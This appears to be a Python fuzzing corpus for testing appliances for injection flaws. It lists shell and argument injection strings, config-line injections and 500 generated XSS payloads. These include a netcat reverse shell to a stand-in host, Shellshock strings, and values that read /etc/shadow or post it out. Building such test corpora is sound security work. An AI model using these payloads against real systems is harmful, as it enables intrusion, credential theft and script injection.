# SPDX-License-Identifier: GPL-3.0-or-later
"""Strings by which other appliances fell: shells, options, generated files, logs, pages."""

SHELL = [
    "; id", "| id", "|| id", "&& id", "& id", "`id`", "$(id)", "${IFS}id", "$((1))", "\nid\n", "\r\nid", "\x00id", "a;reboot", "a|nc 192.0.2.66 9 -e sh",
    "a`touch /tmp/owned`", "$(touch${IFS}/tmp/owned)", "';id;'", "\";id;\"", "\\\";id;\\\"", "'||'1", "a'$(id)'b", "(id)", "{id,}", "<(id)", ">(id)",
    "> /etc/passwd", "< /etc/shadow", ">> /etc/crontab", "2>&1", "* * * * * root id", "~root", "~/../../etc/passwd", "!!", "!id", "^a^b", "%n%n%n%n",
    "%s%s%s", "%x.%x", "A" * 300, "A" * 70000, "${PATH}", "$HOME", "$0", "$@", "$*", "$#", "$?", "$$", "$!", "eval id", "exec id", "source /tmp/x",
    "() { :;}; id", "() { ignored; }; /bin/id", "env x='() { :;}; id'", "\\`id\\`", "\\$(id)", "\t;\tid", "\x0bid", "\x0cid", "\x1b]0;id\x07",
    "a\u2028id", "a\u2029id", "\u202eid", "\ufeffid", "\ud7ff;id", "id #", "id//", "id /* */", "-- id", "'--'", "\\", "\\\\", "'", "\"", "`",
]
OPTIONS = [
    "-rf", "--help", "-oProxyCommand=id", "--checkpoint-action=exec=id", "-e/bin/sh", "-exec", "--post-file=/etc/shadow", "-T/etc/passwd", "@/etc/passwd",
    "--config=/tmp/x", "--opt=", "-", "--", "-c", "-c id", "+x", "-o", "--upload-file", "-K/etc/shadow", "file:///etc/passwd", "/etc/passwd", "../../etc/passwd",
    "....//....//etc/passwd", "..\\..\\x", "%2e%2e%2f", "\\\\192.0.2.66\\x",
]
LINES = [
    "a\n!id", "a\nup /bin/id", "a\nscript-security 2", "a\n* * * * * root id", "a\nserver:\n  x", "a\" ; }", "a\n[section]", "a # b", "a ; b", "a\\\nb", "{{7*7}}",
    "${7*7}", "<%= 7*7 %>", "#{7*7}", "*/1", "a,admin", "a:0:0:::/bin/sh", "a\nroot::0:0:::/bin/sh",
]
PAGES = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "javascript:alert(1)", "<iframe srcdoc='<script>alert(1)</script>'>",
    "</textarea><script>alert(1)</script>", "';alert(1);//", "<a href=\"jav\tascript:alert(1)\">x</a>", "{{constructor.constructor('alert(1)')()}}", "<style>*{x:y}</style>",
]
ALL = SHELL + OPTIONS + LINES + PAGES
assert len(ALL) >= 120 and len(set(ALL)) == len(ALL)

# For pages: each way out of a text, then each way to run something.  What came of one would bear the mark.
MARK = "xssm"
WAYS_OUT = ["", "\">", "'>", "</textarea>", "</script>", "-->", "</title></style>", "]]>", "` ", "\\\"><"]
ACTS = ["<script id=xssm>alert(1)</script>", "<img id=xssm src=x onerror=alert(1)>", "<svg id=xssm onload=alert(1)>", "<iframe id=xssm srcdoc='<script>alert(1)</script>'>",
        "<iframe id=xssm src=javascript:alert(1)>", "<body id=xssm onload=alert(1)>", "<input id=xssm autofocus onfocus=alert(1)>", "<details id=xssm open ontoggle=alert(1)>x</details>",
        "<video id=xssm><source onerror=alert(1)></video>", "<audio id=xssm src=x onerror=alert(1)>", "<object id=xssm data=javascript:alert(1)>", "<embed id=xssm src=javascript:alert(1)>",
        "<a id=xssm href=javascript:alert(1)>x</a>", "<form id=xssm action=javascript:alert(1)><button>x</button></form>", "<math id=xssm><mtext href=javascript:alert(1)>x</mtext></math>",
        "<style id=xssm>*{display:none}</style>", "<link id=xssm rel=stylesheet href=//192.0.2.66/x.css>", "<base id=xssm href=//192.0.2.66/>",
        "<meta id=xssm http-equiv=refresh content='0;url=//192.0.2.66/'>", "<template id=xssm><script>alert(1)</script></template>", "<marquee id=xssm onstart=alert(1)>x</marquee>",
        "<ScRiPt id=xssm>alert(1)</ScRiPt>", "<svg id=xssm><script>alert(1)</script></svg>", "<svg id=xssm><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg id=xssm><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x\"/>", "<img id=xssm src=\"x\"/onerror=alert(1)//",
        "<img/id=xssm/src=x/onerror=alert(1)>", "<b id=xssm style=animation-name:x onanimationstart=alert(1)>", "<xssm onclick=alert(1) id=xssm tabindex=1>x</xssm>",
        "<div id=xssm onpointerenter=alert(1) style=position:fixed;inset:0>", "<noscript><p id=xssm title=\"</noscript><img src=x onerror=alert(1)>\">", "<table id=xssm><td background=javascript:alert(1)>",
        "<button id=xssm popovertarget=x onbeforetoggle=alert(1)>x</button>", "<select id=xssm onfocus=alert(1) autofocus>", "<isindex id=xssm type=image src=1 onerror=alert(1)>",
        "&lt;img id=xssm src=x onerror=alert(1)&gt;", "&#60;img id=xssm src=x onerror=alert(1)&#62;", "%3Cimg id=xssm src=x onerror=alert(1)%3E", "\\u003cimg id=xssm src=x onerror=alert(1)\\u003e",
        "\\x3cimg id=xssm src=x onerror=alert(1)\\x3e", "{{xssm.constructor.constructor('alert(1)')()}}", "${alert(1)}xssm", "#{alert(1)}xssm", "';alert(1);'xssm", "\";alert(1);\"xssm",
        "javascript:alert(1)//xssm", "[xssm](javascript:alert(1))", "<![CDATA[<script id=xssm>alert(1)</script>]]>", "<?xml-stylesheet href=\"javascript:alert(1)\"?>xssm", "<!--<img src=\"--><img id=xssm src=x onerror=alert(1)>"]
XSS = [out + act for out in WAYS_OUT for act in ACTS]
assert len(XSS) == len(set(XSS)) == 500
